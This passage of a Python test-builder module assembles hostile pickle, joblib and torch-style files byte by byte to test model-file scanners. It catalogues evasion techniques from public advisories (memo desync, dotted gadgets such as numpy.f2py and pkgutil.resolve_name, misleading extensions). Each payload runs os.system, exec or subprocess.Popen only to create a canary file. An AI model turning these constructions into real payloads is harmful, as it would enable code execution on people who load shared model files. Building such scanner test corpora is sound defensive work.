"""A hostile corpus: files that run code when a real loader opens them, built byte by byte.

Over 400 lines because it is one catalogue: each probe is a few lines, and splitting the list
would hide which technique classes are covered. The loaders are tests/builders/hostile_loaders.

Every payload is a canary: loading it only creates the file `<canary_dir>/usc-canary-<id>`
(with `os.system("touch ...")`, `exec`, `open(..., "w")`, `subprocess.Popen`, `pathlib`...).
Nothing here unpickles anything; the bytes are assembled from the opcode table of CPython's
Lib/pickle.py (`_Unpickler`, `Modules/_pickle.c` for the C loader's integer and memo parsing).

Sources for the techniques (public advisories and write-ups, 2024-2026):
- picklescan advisories GHSA-9gvj-pp9x-gcfr (STACK_GLOBAL operand tracking, PR #46),
  GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name / attribute chains, issue #66),
  GHSA-m273-6v24-x4m4 and the others fixed in mmaitre314/picklescan PR #53 and #65;
  CVE-2025-10155 (pickle under a PyTorch extension), CVE-2025-10156 (zip member with a bad CRC
  halting the scan), CVE-2025-10157 (submodules of dangerous modules), JFrog, 2025
  (jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/, via
  trailofbits/fickling issue #190); CVE-2025-1716, CVE-2025-1889 (non-standard extensions),
  CVE-2025-1944 (zip member names), CVE-2025-1945 (zip flag bits), Sonatype, 2025.
- Memo desync of static scanners: huggingface.co/hacnho/model-format-bypass-pickle-memo-desync,
  huggingface.co/celvexgroup/modelscan-memo-poison-poc (2026); STACK_GLOBAL at offset 0:
  CVE-2025-71325; EOP / loading paths: arXiv 2508.19774 ("The Art of Hide and Seek", 2025).
- Gadgets: numpy.testing._private.utils.runstring (CVE-2025-71355), numpy.f2py (CVE-2025-71365),
  timeit / trace / pty (CVE-2025-71351, -71352, -71322), marshal + FunctionType
  (huggingface.co/thesecguy/poc-picklescan-marshal-bypass).
- File formats: joblib/numpy_pickle.py (NumpyArrayWrapper.read_array, the nested object-array
  Unpickler), joblib/numpy_pickle_compat.py (ZF files, NDArrayWrapper -> np.load(allow_pickle)),
  joblib/compressor.py (prefixes, multi-stream zlib), numpy/lib/format.py (descr_to_dtype,
  read_array), Lib/zipfile.py (_EndRecData, concat offsets), pytorch/pytorch
  torch/serialization.py (_legacy_load tar members, five legacy pickles), torch/storage.py
  (_load_from_bytes), torch/_tensor.py (_rebuild_from_type_v2).
"""

from __future__ import annotations

import bz2
import io
import lzma
import struct
import tarfile
import warnings
import zipfile
import zlib
from dataclasses import dataclass, field

#: Technique classes of issue 13 ("What must hold", items 1-4); every one has probes.
TECHNIQUES: tuple[str, ...] = (
    "protocol-spellings",
    "memo-indirection",
    "dotted-qualname",
    "integer-spelling",
    "multiple-streams",
    "leading-opcodes",
    "text-pickle-names",
    "joblib-container",
    "joblib-array-desync",
    "npy-object-dtype",
    "zip-tricks",
    "torch-gadgets",
    "torch-legacy-tar",
    "extension-codes",
    "parser-exhaustion",
)
#: Loaders of tests/builders/hostile_loaders.py.
LOADERS: tuple[str, ...] = (
    "pickle",
    "joblib",
    "numpy",
    "torch-style",
    "torch-tar",
    "zipfile+pickle",
)


@dataclass(frozen=True)
class Probe:
    """One hostile file and the loader that runs its payload."""

    id: str
    """Stable identifier (names the canary and the test)."""
    technique: str
    """One of TECHNIQUES."""
    path: str
    """Repository-relative path of the file."""
    data: bytes
    """The file's bytes."""
    loader: str
    """One of LOADERS."""
    why: str
    """What the probe does and where the technique comes from."""
    siblings: tuple[tuple[str, bytes], ...] = ()
    """Other files the loader reads, paths relative to the repository."""
    member: str = ""
    """Zip member the `zipfile+pickle` loader unpickles."""
    extension: str = ""
    """`module:name:code` registered with copyreg in the loading process."""
    files: dict[str, bytes] = field(init=False, repr=False, compare=False)
    """Every file of the probe by relative path (the probe's own and its siblings)."""

    def __post_init__(self) -> None:
        object.__setattr__(self, "files", {self.path: self.data, **dict(self.siblings)})


# --- Pickle assembly (opcodes of Lib/pickle.py). -------------------------------------------

STOP = b"."
MARK = b"("
TUPLE = b"t"
TUPLE1 = b"\x85"
REDUCE = b"R"
POP = b"0"
NONE = b"N"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
BUILD = b"b"
SETITEM = b"s"
SETITEMS = b"u"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
NEWFALSE = b"\x89"
NEWTRUE = b"\x88"


def proto(n: int) -> bytes:
    """PROTO n."""
    return b"\x80" + bytes([n])


def u(text: str) -> bytes:
    """A str: SHORT_BINUNICODE, or BINUNICODE when long."""
    raw = text.encode("utf-8")
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def k(n: int) -> bytes:
    """A small non-negative int (BININT1 / BININT2 / BININT)."""
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL module.name (protocol 4+)."""
    return u(module) + u(name) + STACK_GLOBAL


def g(module: str, name: str) -> bytes:
    """GLOBAL module name (protocols 0-3, text operands)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args): MARK args TUPLE REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def tuple_of(*items: bytes) -> bytes:
    """A tuple of already-assembled items."""
    return MARK + b"".join(items) + TUPLE


def canary(canary_dir: str, probe_id: str) -> str:
    """Path of a probe's canary file."""
    return f"{canary_dir}/usc-canary-{probe_id}"


def exec_code(target: str) -> str:
    """Python source that creates `target`."""
    return f"open({target!r}, 'w').close()"


def system_call(target: str) -> bytes:
    """posix.system('touch target') with STACK_GLOBAL."""
    return call(sg("posix", "system"), u(f"touch {target}"))


def exec_call(target: str) -> bytes:
    """builtins.exec(code creating target) with STACK_GLOBAL."""
    return call(sg("builtins", "exec"), u(exec_code(target)))


def pickled(body: bytes, protocol: int = 4) -> bytes:
    """A complete stream: PROTO, body, STOP."""
    return proto(protocol) + body + STOP


# --- Containers. -------------------------------------------------------------------------------


def zip_bytes(
    members: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_STORED, prefix: bytes = b""
) -> bytes:
    """A zip written by zipfile (members in order, duplicates allowed)."""
    buf = io.BytesIO()
    buf.write(prefix)
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w", compression=method) as zf:
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are the point
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, folder: str = "archive") -> list[tuple[str, bytes]]:
    """The members torch.save writes (torch/serialization.py `_save`), data.pkl first."""
    return [
        (f"{folder}/data.pkl", data_pkl),
        (f"{folder}/byteorder", b"little"),
        (f"{folder}/version", b"3\n"),
        (f"{folder}/.data/serialization_id", b"0123456789"),
    ]


def raw_zip(
    entries: list[tuple[str, str, bytes]],
    *,
    local_flags: int = 0,
    central_flags: int = 0,
    descriptor: bool = False,
) -> tuple[bytes, bytes, bytes]:
    """(local part, central directory, EOCD) of a stored zip; entries = (local, central, data).

    Written by hand (APPNOTE.TXT 4.3.7 / 4.3.12 / 4.3.16) so headers can disagree.
    """
    local = io.BytesIO()
    central = io.BytesIO()
    for lname, cname, data in entries:
        crc = zlib.crc32(data)
        offset = local.tell()
        lb, cb = lname.encode(), cname.encode()
        flags = local_flags | (0x08 if descriptor else 0)
        sizes = (0, 0, 0) if descriptor else (crc, len(data), len(data))
        local.write(
            struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 0, 0, 0x21, *sizes, len(lb), 0)
        )
        local.write(lb + data)
        if descriptor:
            local.write(struct.pack("<4sIII", b"PK\x07\x08", crc, len(data), len(data)))
        central.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                central_flags | (flags & 0x08),
                0,
                0,
                0x21,
                crc,
                len(data),
                len(data),
                len(cb),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        central.write(cb)
    cd = central.getvalue()
    body = local.getvalue()
    eocd = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(cd), len(body), 0
    )
    return body, cd, eocd


def npy_bytes(descr: str, body: bytes, shape: str = "(1,)", version: int = 1) -> bytes:
    """An .npy file (numpy/lib/format.py): magic, version, header dict text, then `body`."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    head_len = 10 if version == 1 else 12
    pad = 64 - (head_len + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1")
    size = struct.pack("<H", len(text)) if version == 1 else struct.pack("<I", len(text))
    return b"\x93NUMPY" + bytes([version, 0]) + size + text + body


def tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
    """A tar (PAX) with the given members in order."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def zfile(data: bytes, space: bool = False) -> bytes:
    """joblib < 0.9.3 "ZF" file (numpy_pickle_compat.write_zfile; 0.8.4 wrote one more space)."""
    length = f"{len(data):#x}".ljust(len(f"{2**64:#x}")).encode()
    return b"ZF" + length + (b" " if space else b"") + zlib.compress(data, 3)


def dtype_call(code: str, state: bytes | None = None) -> bytes:
    """numpy.dtype(code, False, True) plus its BUILD state (how numpy pickles a dtype)."""
    if state is None:
        state = tuple_of(
            k(3), u("|"), NONE, NONE, NONE, b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", k(0)
        )
    return call(sg("numpy", "dtype"), u(code), NEWFALSE, NEWTRUE) + state + BUILD


def wrapper_state(dtype: bytes, shape: bytes, *, alignment: bool = False) -> bytes:
    """The state dict of a joblib NumpyArrayWrapper (numpy_pickle.py __init__ fields)."""
    items = (
        u("subclass")
        + sg("numpy", "ndarray")
        + u("shape")
        + shape
        + u("order")
        + u("C")
        + u("dtype")
        + dtype
        + u("allow_mmap")
        + NEWFALSE
    )
    if alignment:
        items += u("numpy_array_alignment_bytes") + k(16)
    return EMPTY_DICT + MARK + items + SETITEMS


def new_wrapper(module: str = "joblib.numpy_pickle", name: str = "NumpyArrayWrapper") -> bytes:
    """cls.__new__(cls) via NEWOBJ, as joblib's pickles create the wrapper."""
    return sg(module, name) + EMPTY_TUPLE + NEWOBJ


def ints(*values: int) -> bytes:
    """A tuple of small ints."""
    return tuple_of(*(k(v) for v in values))


def binunicode(text: str) -> bytes:
    """BINUNICODE (protocol 1-2 str)."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def text_system(target: str) -> bytes:
    """Protocol 0 text: posix.system('touch target') by GLOBAL / MARK / TUPLE / REDUCE."""
    return b"cposix\nsystem\n(V" + f"touch {target}".encode() + b"\ntR."


def binary_system(target: str) -> bytes:
    """Protocol 1 binary opcodes, no PROTO header: os.system by GLOBAL and BINUNICODE."""
    return g("posix", "system") + MARK + binunicode(f"touch {target}") + TUPLE + REDUCE + STOP


class _Reduce:
    """Only ever dumped (by joblib.dump to build real joblib files): calls func(*args) on load."""

    def __init__(self, func: object, *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, ...]:
        return (self.func, self.args)


# --- The catalogue. ------------------------------------------------------------------------


def _protocols(c: str) -> list[Probe]:
    t = "protocol-spellings"
    src = "Lib/pickle.py opcodes of every protocol; picklescan GHSA-9gvj-pp9x-gcfr"
    frame_body = exec_call(canary(c, "p4-stack-global-frame"))
    return [
        Probe(
            "p0-global-reduce",
            t,
            "models/p0.pkl",
            text_system(canary(c, "p0-global-reduce")),
            "pickle",
            f"protocol 0 GLOBAL + REDUCE; {src}",
        ),
        Probe(
            "p1-global-binunicode",
            t,
            "models/p1.pkl",
            binary_system(canary(c, "p1-global-binunicode")),
            "pickle",
            f"protocol 1 binary opcodes without a PROTO header; {src}",
        ),
        Probe(
            "p2-global-tuple1",
            t,
            "models/p2.pkl",
            proto(2)
            + g("builtins", "exec")
            + binunicode(exec_code(canary(c, "p2-global-tuple1")))
            + TUPLE1
            + REDUCE
            + STOP,
            "pickle",
            f"protocol 2 GLOBAL builtins.exec; {src}",
        ),
        Probe(
            "p3-global-popen-list",
            t,
            "models/p3.pkl",
            proto(3)
            + g("subprocess", "Popen")
            + b"]"
            + MARK
            + binunicode("touch")
            + binunicode(canary(c, "p3-global-popen-list"))
            + b"e"
            + TUPLE1
            + REDUCE
            + STOP,
            "pickle",
            f"protocol 3 subprocess.Popen([...]); {src}",
        ),
        Probe(
            "p4-stack-global-frame",
            t,
            "models/p4.pkl",
            proto(4) + b"\x95" + struct.pack("<Q", len(frame_body) + 1) + frame_body + STOP,
            "pickle",
            f"protocol 4 FRAME + STACK_GLOBAL; {src}",
        ),
        Probe(
            "p5-stack-global-bytes8",
            t,
            "models/p5.pkl",
            proto(5)
            + sg("builtins", "exec")
            + MARK
            + b"\x8e"
            + struct.pack("<Q", len(exec_code(canary(c, "p5-stack-global-bytes8"))))
            + exec_code(canary(c, "p5-stack-global-bytes8")).encode()
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"protocol 5 STACK_GLOBAL, exec of BINBYTES8 source; {src}",
        ),
        Probe(
            "inst-p0",
            t,
            "models/inst.pkl",
            b"(V" + f"touch {canary(c, 'inst-p0')}".encode() + b"\nios\nsystem\n.",
            "pickle",
            f"INST os.system (the class is called with the marked args); {src}",
        ),
        Probe(
            "obj-p1",
            t,
            "models/obj.pkl",
            MARK + g("os", "system") + binunicode(f"touch {canary(c, 'obj-p1')}") + b"o" + STOP,
            "pickle",
            f"OBJ opcode; {src}",
        ),
        Probe(
            "newobj-build-setstate",
            t,
            "models/newobj.pkl",
            proto(2)
            + g("collections", "OrderedDict")
            + EMPTY_TUPLE
            + NEWOBJ
            + EMPTY_DICT
            + binunicode("__setstate__")
            + g("posix", "system")
            + SETITEM
            + BUILD
            + binunicode(f"touch {canary(c, 'newobj-build-setstate')}")
            + BUILD
            + STOP,
            "pickle",
            "NEWOBJ of an allow-listed class, BUILD puts __setstate__ in its __dict__, "
            "a second BUILD calls it (Lib/pickle.py load_build)",
        ),
        Probe(
            "newobj-ex-build-setstate",
            t,
            "models/newobj_ex.pkl",
            proto(4)
            + sg("collections", "OrderedDict")
            + EMPTY_TUPLE
            + EMPTY_DICT
            + NEWOBJ_EX
            + EMPTY_DICT
            + u("__setstate__")
            + sg("builtins", "exec")
            + SETITEM
            + BUILD
            + u(exec_code(canary(c, "newobj-ex-build-setstate")))
            + BUILD
            + STOP,
            "pickle",
            "NEWOBJ_EX + the BUILD __setstate__ gadget",
        ),
        Probe(
            "stack-global-shortbinstring",
            t,
            "models/sbs.pkl",
            proto(4)
            + b"U\x05posix"
            + b"U\x06system"
            + STACK_GLOBAL
            + MARK
            + b"U"
            + bytes([len(f"touch {canary(c, 'stack-global-shortbinstring')}")])
            + f"touch {canary(c, 'stack-global-shortbinstring')}".encode()
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            "STACK_GLOBAL operands as SHORT_BINSTRING (decoded to str)",
        ),
        Probe(
            "stack-global-string-escapes",
            t,
            "models/strings.pkl",
            proto(4)
            + b"S'po\\x73ix'\n"
            + b"S'sys\\x74em'\n"
            + STACK_GLOBAL
            + MARK
            + b"S'"
            + f"touch {canary(c, 'stack-global-string-escapes')}".encode()
            + b"'\n"
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            "STRING operands with backslash escapes",
        ),
        Probe(
            "stack-global-unicode-escapes",
            t,
            "models/unicode.pkl",
            proto(4)
            + b"Vpo\\u0073ix\n"
            + b"Vsy\\u0073tem\n"
            + STACK_GLOBAL
            + MARK
            + b"V"
            + f"touch {canary(c, 'stack-global-unicode-escapes')}".encode()
            + b"\n"
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            "UNICODE operands with raw-unicode escapes",
        ),
    ]


def _memo(c: str) -> list[Probe]:
    t = "memo-indirection"
    src = "memo desync bypasses (hacnho / celvexgroup PoCs, CVE-2025-71325)"

    def cmd(pid: str) -> bytes:
        return u(f"touch {canary(c, pid)}")

    return [
        Probe(
            "memo-binput-binget",
            t,
            "models/memo1.pkl",
            proto(4)
            + u("posix")
            + b"q\x05"
            + POP
            + u("system")
            + b"q\x07"
            + POP
            + b"h\x05h\x07"
            + STACK_GLOBAL
            + MARK
            + cmd("memo-binput-binget")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"names BINPUT, popped, BINGET back; {src}",
        ),
        Probe(
            "memo-long-binput",
            t,
            "models/memo2.pkl",
            proto(4)
            + u("posix")
            + b"r"
            + struct.pack("<I", 70000)
            + POP
            + u("system")
            + b"r"
            + struct.pack("<I", 70001)
            + POP
            + b"j"
            + struct.pack("<I", 70000)
            + b"j"
            + struct.pack("<I", 70001)
            + STACK_GLOBAL
            + MARK
            + cmd("memo-long-binput")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"LONG_BINPUT / LONG_BINGET; {src}",
        ),
        Probe(
            "memo-memoize-noise",
            t,
            "models/memo3.pkl",
            proto(4)
            + u("builtins")
            + MEMOIZE
            + u("exec")
            + MEMOIZE
            + POP
            + POP
            + NONE
            + POP
            + b"h\x00"
            + u("padding")
            + POP
            + b"h\x01"
            + STACK_GLOBAL
            + MARK
            + u(exec_code(canary(c, "memo-memoize-noise")))
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"MEMOIZE with unrelated opcodes in between; {src}",
        ),
        Probe(
            "memo-overwrite",
            t,
            "models/memo4.pkl",
            proto(4)
            + u("collections")
            + b"q\x00"
            + POP
            + u("posix")
            + b"q\x00"
            + POP
            + b"h\x00"
            + u("system")
            + STACK_GLOBAL
            + MARK
            + cmd("memo-overwrite")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"a memo slot written twice (the last write counts); {src}",
        ),
        Probe(
            "memo-callable-get",
            t,
            "models/memo5.pkl",
            proto(2)
            + g("builtins", "exec")
            + b"q\x01"
            + POP
            + EMPTY_DICT
            + POP
            + b"h\x01"
            + MARK
            + binunicode(exec_code(canary(c, "memo-callable-get")))
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"the callable itself memoized and fetched back; {src}",
        ),
        Probe(
            "memo-text-put-get",
            t,
            "models/memo6.pkl",
            b"Vposix\np3\n0Vsystem\np4\n0g3\ng4\n\x93(V"
            + f"touch {canary(c, 'memo-text-put-get')}".encode()
            + b"\ntR.",
            "pickle",
            f"protocol 0 PUT/GET feeding STACK_GLOBAL; {src}",
        ),
    ]


def _dotted(c: str) -> list[Probe]:
    t = "dotted-qualname"
    src = "issue 13 item 3; picklescan GHSA-vvpj-8cmc-gx39 / issue #66 (attribute chains)"

    def popen(pid: str) -> bytes:
        return b"]" + MARK + u("touch") + u(canary(c, pid)) + b"e"

    return [
        Probe(
            "dotted-sklearn-fixes-popen",
            t,
            "models/dotted1.pkl",
            proto(4)
            + sg("sklearn.utils.fixes", "np.f2py.subprocess.Popen")
            + MARK
            + popen("dotted-sklearn-fixes-popen")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"STACK_GLOBAL through sklearn.utils.fixes to subprocess.Popen; {src}",
        ),
        Probe(
            "dotted-global-proto4-sklearn-base",
            t,
            "models/dotted2.pkl",
            proto(4)
            + g("sklearn.base", "np.f2py.subprocess.Popen")
            + MARK
            + popen("dotted-global-proto4-sklearn-base")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            "text GLOBAL with a dotted name: _pickle.c find_class resolves dots when proto>=4",
        ),
        Probe(
            "dotted-numpy-f2py-os-system",
            t,
            "models/dotted3.pkl",
            proto(4)
            + sg("numpy", "f2py.os.system")
            + MARK
            + u(f"touch {canary(c, 'dotted-numpy-f2py-os-system')}")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"numpy + f2py.os.system (CVE-2025-71365 family); {src}",
        ),
        Probe(
            "dotted-collections-builtins-exec",
            t,
            "models/dotted4.pkl",
            proto(4)
            + sg("collections", "namedtuple.__builtins__.get")
            + MARK
            + u("exec")
            + TUPLE
            + REDUCE
            + MARK
            + u(exec_code(canary(c, "dotted-collections-builtins-exec")))
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            f"collections + namedtuple.__builtins__.get('exec'), then called; {src}",
        ),
        Probe(
            "dotted-numpy-runstring",
            t,
            "models/dotted5.pkl",
            proto(4)
            + sg("numpy", "testing._private.utils.runstring")
            + MARK
            + u(exec_code(canary(c, "dotted-numpy-runstring")))
            + EMPTY_DICT
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            "numpy.testing._private.utils.runstring (CVE-2025-71355)",
        ),
        Probe(
            "dotted-pathlib-touch",
            t,
            "models/dotted6.pkl",
            proto(4)
            + sg("pathlib", "Path.touch")
            + MARK
            + call(sg("pathlib", "PosixPath"), u(canary(c, "dotted-pathlib-touch")))
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            "pathlib Path.touch(PosixPath(X)) by a REDUCE chain",
        ),
        Probe(
            "dotted-pkgutil-resolve-name",
            t,
            "models/dotted7.pkl",
            proto(4)
            + sg("pkgutil", "resolve_name")
            + MARK
            + u("os:system")
            + TUPLE
            + REDUCE
            + MARK
            + u(f"touch {canary(c, 'dotted-pkgutil-resolve-name')}")
            + TUPLE
            + REDUCE
            + STOP,
            "pickle",
            "pkgutil.resolve_name('os:system') (GHSA-vvpj-8cmc-gx39)",
        ),
    ]


def _integers(c: str) -> list[Probe]:
    t = "integer-spelling"
    src = "Modules/_pickle.c load_int/load_long (strtol base 0, int(x, 0)) vs pickletools base 10"
    return [
        Probe(
            "int-hex-I",
            t,
            "models/int1.pkl",
            b"I0x1\n0" + text_system(canary(c, "int-hex-I")),
            "pickle",
            f"INT '0x1' before the payload; {src}",
        ),
        Probe(
            "int-sign-space-I",
            t,
            "models/int2.pkl",
            b"I +0x1 \n0" + text_system(canary(c, "int-sign-space-I")),
            "pickle",
            f"INT ' +0x1 ' (sign and spaces); {src}",
        ),
        Probe(
            "long-hex-L-suffix",
            t,
            "models/int3.pkl",
            b"L0x1fL\n0" + text_system(canary(c, "long-hex-L-suffix")),
            "pickle",
            f"LONG '0x1fL'; {src}",
        ),
        Probe(
            "memo-put-01",
            t,
            "models/int4.pkl",
            b"Vposix\np01\n0Vsystem\np02\n0g01\ng02\n\x93(V"
            + f"touch {canary(c, 'memo-put-01')}".encode()
            + b"\ntR.",
            "pickle",
            "PUT/GET index '01' (base 10 in CPython, True for pickletools)",
        ),
        Probe(
            "memo-get-00",
            t,
            "models/int5.pkl",
            b"Vposix\np00\n0Vsystem\np1\n0g00\ng1\n\x93(V"
            + f"touch {canary(c, 'memo-get-00')}".encode()
            + b"\ntR.",
            "pickle",
            "PUT/GET index '00' (0 in CPython, False for pickletools)",
        ),
        Probe(
            "joblib-shape-hex-int",
            t,
            "models/int6.joblib",
            proto(4)
            + new_wrapper()
            + wrapper_state(dtype_call("u1"), MARK + b"I0x3\n" + TUPLE)
            + BUILD
            + b"\x01\x02\x03"
            + POP
            + exec_call(canary(c, "joblib-shape-hex-int"))
            + STOP,
            "joblib",
            "NumpyArrayWrapper shape written as INT '0x3' (joblib unpickles "
            "with pickle._Unpickler: int(data, 0))",
        ),
    ]


def _streams(c: str) -> list[Probe]:
    t = "multiple-streams"
    magic = proto(2) + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + STOP
    version = proto(2) + k(1001) + STOP
    info = pickled(EMPTY_DICT, 2)
    obj = pickled(EMPTY_DICT, 2)
    keys = pickled(b"]", 2)
    src = "torch/serialization.py _legacy_load: five pickles in a row"

    def payload(pid: str) -> bytes:
        return pickled(system_call(canary(c, pid)), 2)

    return [
        Probe(
            "torch-legacy-payload-sys-info",
            t,
            "ckpt/legacy1.pt",
            magic + version + payload("torch-legacy-payload-sys-info") + obj + keys,
            "torch-style",
            f"the third pickle (sys_info) runs code; {src}",
        ),
        Probe(
            "torch-legacy-payload-keys",
            t,
            "ckpt/legacy2.pt",
            magic + version + info + obj + payload("torch-legacy-payload-keys") + b"\x00" * 64,
            "torch-style",
            f"the fifth pickle (storage keys) runs code; {src}",
        ),
        Probe(
            "torch-legacy-payload-magic",
            t,
            "ckpt/legacy3.pth",
            payload("torch-legacy-payload-magic") + version + info + obj + keys,
            "torch-style",
            f"the first pickle (the magic number) runs code; {src}",
        ),
        Probe(
            "joblib-object-array-nested",
            t,
            "models/objarr.joblib",
            _joblib_dump(_object_array(canary(c, "joblib-object-array-nested"))),
            "joblib",
            "joblib object array: a nested pickle stream inside the stream "
            "(joblib/numpy_pickle.py read_array)",
        ),
    ]


def _object_array(target: str) -> object:
    import os

    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = _Reduce(os.system, f"touch {target}")
    return {"weights": np.arange(4.0), "meta": arr}


def _joblib_dump(obj: object, compress: object = 0) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress)
    return buf.getvalue()


def _leading(c: str) -> list[Probe]:
    t = "leading-opcodes"
    blob = bytes(range(256)) * 800
    gguf = b"GGUF\x03\x00\x00\x00\x00" + POP
    return [
        Probe(
            "lead-noise-opcodes",
            t,
            "models/lead1.pkl",
            b"}0]0N0(1" + proto(4) + exec_call(canary(c, "lead-noise-opcodes")) + STOP,
            "pickle",
            "harmless opcodes before PROTO (PROTO is accepted anywhere)",
        ),
        Probe(
            "lead-bytes-blob",
            t,
            "weights/lead2.bin",
            b"B"
            + struct.pack("<I", len(blob))
            + blob
            + POP
            + proto(4)
            + system_call(canary(c, "lead-bytes-blob"))
            + STOP,
            "pickle",
            "a 200 KB BINBYTES blob first: the file starts like raw data",
        ),
        Probe(
            "lead-gguf-polyglot",
            t,
            "models/lead3.pkl",
            gguf + proto(4) + exec_call(canary(c, "lead-gguf-polyglot")) + STOP,
            "pickle",
            "starts with the GGUF magic and version (BINFLOAT's argument), then the payload",
        ),
        Probe(
            "pickle-zip-polyglot",
            t,
            "ckpt/lead4.pt",
            pickled(exec_call(canary(c, "pickle-zip-polyglot")))
            + zip_bytes(torch_zip(pickled(EMPTY_DICT, 2))),
            "pickle",
            "a pickle followed by a whole torch zip (zipfile opens it too)",
        ),
        Probe(
            "lead-marks-then-proto",
            t,
            "models/lead5.pkl",
            MARK * 3
            + b"1" * 3
            + proto(2)
            + g("builtins", "exec")
            + binunicode(exec_code(canary(c, "lead-marks-then-proto")))
            + TUPLE1
            + REDUCE
            + STOP,
            "pickle",
            "MARK / POP_MARK pairs before PROTO 2",
        ),
    ]


def _text_names(c: str) -> list[Probe]:
    t = "text-pickle-names"
    src = "CVE-2025-1889 / CVE-2025-10155: pickles under non-pickle names"
    rows = [
        ("text-p0-sav", "models/clf.sav", "pickle", 0),
        ("text-p1-bin", "models/pytorch_model.bin", "pickle", 1),
        ("text-p0-dat", "cache/features.dat", "pickle", 0),
        ("text-p0-no-extension", "checkpoints/latest", "pickle", 0),
        ("text-p1-model", "models/ranker.model", "pickle", 1),
        ("text-p0-joblib", "models/legacy.joblib", "joblib", 0),
        ("text-p0-pth-torch", "models/text.pth", "torch-style", 0),
        ("text-p1-ckpt-torch", "models/epoch3.ckpt", "torch-style", 1),
    ]
    out = []
    for pid, path, loader, level in rows:
        data = text_system(canary(c, pid)) if level == 0 else binary_system(canary(c, pid))
        out.append(Probe(pid, t, path, data, loader, f"protocol {level} pickle as {path}; {src}"))
    return out


def _joblib_files(c: str) -> list[Probe]:
    import os

    t = "joblib-container"
    src = "joblib/compressor.py and numpy_pickle_compat.py"
    out = []
    for pid, compress, path in (
        ("joblib-plain", 0, "models/plain.joblib"),
        ("joblib-zlib", ("zlib", 3), "models/clf.joblib.z"),
        ("joblib-gzip", ("gzip", 3), "models/clf.joblib.gz"),
        ("joblib-bz2", ("bz2", 3), "models/clf.joblib.bz2"),
        ("joblib-lzma", ("lzma", 3), "models/clf.joblib.lzma"),
        ("joblib-xz", ("xz", 3), "models/clf.joblib.xz"),
        ("joblib-lz4", ("lz4", 3), "models/clf.joblib.lz4"),
    ):
        obj = {"model": _Reduce(os.system, f"touch {canary(c, pid)}")}
        out.append(
            Probe(
                pid,
                t,
                path,
                _joblib_dump(obj, compress),
                "joblib",
                f"joblib.dump(compress={compress!r}); {src}",
            )
        )
    inner = pickled(system_call(canary(c, "joblib-zf-legacy")), 2)
    out.append(
        Probe(
            "joblib-zf-legacy",
            t,
            "models/old.pkl",
            zfile(inner),
            "joblib",
            f"legacy ZF file (joblib < 0.9.3); {src}",
        )
    )
    inner = pickled(system_call(canary(c, "joblib-zf-space")), 2)
    out.append(
        Probe(
            "joblib-zf-space",
            t,
            "models/old084.pkl",
            zfile(inner, space=True),
            "joblib",
            f"ZF header one space wider (joblib <= 0.8.4); {src}",
        )
    )
    data = pickled(exec_call(canary(c, "joblib-lzma-small-dict")))
    alone = lzma.compress(
        data, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 15}]
    )
    out.append(
        Probe(
            "joblib-lzma-small-dict",
            t,
            "models/small.joblib",
            alone,
            "joblib",
            "an .lzma stream with a 32 KiB dictionary: starts ']\\x00\\x80', joblib's "
            "prefix is only ']\\x00'",
        )
    )
    data = pickled(exec_call(canary(c, "joblib-bz2-named-pkl")))
    out.append(
        Probe(
            "joblib-bz2-named-pkl",
            t,
            "models/clf.pkl",
            bz2.compress(data),
            "joblib",
